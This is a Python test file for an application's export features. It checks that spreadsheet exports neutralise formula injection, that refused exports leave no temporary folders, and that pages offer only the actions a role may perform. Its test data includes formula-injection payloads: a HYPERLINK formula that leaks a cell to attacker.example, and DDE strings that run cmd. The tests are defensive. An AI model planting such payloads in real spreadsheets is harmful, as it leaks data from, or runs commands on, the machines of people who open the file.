"""Attacks through exports: formulas smuggled into spreadsheets, refused exports leaving
folders behind, and the files page offering what a role may not do."""

from __future__ import annotations

import io
import json
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from webhelpers import PASSWORD, Site, log_in, open_case

from veriga.export import export_entities
from veriga.export.cells import TRIGGERS, csv_row, defuse
from veriga.ingest import ImportRequest
from veriga.model import model

HOSTILE = {
    "name": '=HYPERLINK("http://attacker.example/?leak="&A1,"Open the file")',
    "alias": "@SUM(1+1)*cmd|' /C calc'!A0",
    "notes": "+1+cmd|' /C calc'!A0",
    "position": "-2+3+cmd|' /C calc'!A0",
    "title": "\tDDE",
    "summary": "\r=1+1",
}


def _hostile_person() -> dict:
    return {"id": "p-hostile", "schema": "Person",
            "properties": {k: [v] for k, v in HOSTILE.items()} | {
                "phone": ["+37120000000"], "birthDate": ["1990-01-01"]}}


def _cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_inert(data: bytes, imported: bool = False) -> None:
    cells = _cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a live formula"
    texts = {c.value for c in cells if isinstance(c.value, str)}
    live = [t for t in texts if t.startswith(TRIGGERS) and defuse(t) != t]
    assert not live, f"formula triggers left: {live}"
    # an import cleans whitespace ("\tDDE" becomes "DDE"); XML reads a CR as a LF
    values = [v.strip() if imported else v.replace("\r", "\n") for v in HOSTILE.values()]
    for value in values:
        if value.startswith(TRIGGERS):
            assert "'" + value in texts, f"{value!r} not defused"


def test_defuse_follows_owasp() -> None:
    for value in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"):
        assert defuse(value) == "'" + value
    for value in ("Anna", "-12.50", "+37120000000", "1e5", "", "a=b"):
        assert defuse(value) == value
    assert csv_row(["=1", 3, None]) == ["'=1", 3, None]


def test_xlsx_export_writes_formulas_as_inert_text(tmp_path: Path) -> None:
    """Before: ``=HYPERLINK(...)`` from an imported file was written as a live formula."""
    proxy = model.get_proxy(_hostile_person())
    out = tmp_path / "case.xlsx"
    assert export_entities([proxy], "xlsx", out) == 1
    _assert_inert(out.read_bytes())
    phones = [c.value for c in _cells(out.read_bytes()) if c.value == "+37120000000"]
    assert phones, "a phone number stays as it is"


@pytest.fixture(scope="module")
def prosecutor(site: Site) -> str:
    admin = site.ws.as_user("admin", purpose="setting up the attack")
    admin.directory.add_user("petra", "Valsts policija", ["prosecutor"], "Petra", PASSWORD)
    site.ws.cases.add_member(site.case, "petra")
    return "petra"


@pytest.fixture
def tmp_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    folder = tmp_path / "tmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    yield folder


def test_xlsx_export_from_the_browser_is_inert(client: TestClient, site: Site,
                                               tmp_path: Path) -> None:
    source = tmp_path / "hostile.ftm.json"
    source.write_text(json.dumps(_hostile_person()) + "\n", encoding="utf-8")
    site.ws.cases.create("formulas")
    site.ws.records.import_files("formulas", [ImportRequest(source)])
    log_in(client, "liga")
    open_case(client, "formulas", "checking the spreadsheet export")
    got = client.get("/cases/formulas/export", params={"format": "xlsx"})
    assert got.status_code == 200
    _assert_inert(got.content, imported=True)


def test_a_refused_export_leaves_no_folder(client: TestClient, site: Site,
                                          tmp_dir: Path) -> None:
    """Before: every refused export left an empty ``veriga-export-*`` folder behind."""
    log_in(client, "ilze")  # an NGO worker may read the case, not export it
    open_case(client, site.case, "support for a victim")
    for fmt in ("ftm", "xlsx", "anx"):
        assert client.get(f"/cases/{site.case}/export",
                          params={"format": fmt}).status_code == 403
    log_in(client, "outsider")
    assert client.get(f"/cases/{site.case}/export").status_code == 404
    assert not list(tmp_dir.iterdir())


@pytest.mark.parametrize("user, may_import, may_export", [
    ("liga", True, True), ("petra", False, True), ("ilze", False, False)])
def test_the_files_page_offers_only_what_the_role_may_do(
        client: TestClient, site: Site, prosecutor: str, tmp_dir: Path, user: str,
        may_import: bool, may_export: bool) -> None:
    """Before: the NGO worker's files page offered six export links, all answering 403."""
    log_in(client, user)
    open_case(client, site.case, "looking at the case files")
    page = client.get(f"/cases/{site.case}/files")
    assert page.status_code == 200
    assert ('id="upload"' in page.text) is may_import
    assert ('data-testid="no-import"' in page.text) is not may_import
    links = [part.split('"')[0] for part in page.text.split('href="')[1:]
             if "/export?format=" in part.split('"')[0]]
    assert bool(links) is may_export
    assert ('data-testid="no-export"' in page.text) is not may_export
    for link in links[:2]:  # every link offered works
        assert client.get(link).status_code == 200, link
    assert not list(tmp_dir.iterdir()), "downloads clean up their folders"
